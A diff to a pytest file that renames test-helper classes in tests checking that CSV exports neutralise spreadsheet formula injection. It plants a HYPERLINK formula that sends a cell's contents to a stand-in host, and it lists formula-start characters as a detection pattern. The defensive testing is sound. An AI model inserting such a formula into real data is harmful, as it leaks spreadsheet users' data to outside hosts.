@@ -9,8 +9,8 @@ import pytest
 
 from db.csv_file import write_csv
 from db.schema import bureau, department
-from tests.support.public_site import Public
-from tests.support.result_workflow import Night
+from tests.support.public_site import PublicSite
+from tests.support.result_workflow import ResultWorkflow
 
 FORMULA = '=HYPERLINK("http://there.example/?"&A1,"here")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
@@ -25,11 +25,11 @@ def told(line):
         connection.execute(department.update().where(department.c.code == "02").values(code=FORMULA))
     line.reported()
     line.identified("00200015").keys("315*4*100*2*120*40*30*16#").keys("3").keys("1")
-    night = Night(line.engine)
-    night.paper()
-    night.validate(night.people.member)
-    night.validate(night.people.second_member)
-    return night
+    workflow = ResultWorkflow(line.engine)
+    workflow.paper()
+    workflow.validate(workflow.deciders.member)
+    workflow.validate(workflow.deciders.second_member)
+    return workflow
 
 
 def cells(text):
@@ -68,7 +68,7 @@ def test_an_export_holds_no_formula(told, run, tmp_path, status):
 
 
 def test_what_the_public_takes_away_holds_no_formula(told):
-    written = cells(Public(told).page(".csv?level=bureau"))
+    written = cells(PublicSite(told).page(".csv?level=bureau"))
     assert [cell for cell in written if not is_harmless(cell)] == []
     assert f"'{FORMULA}" in written
 
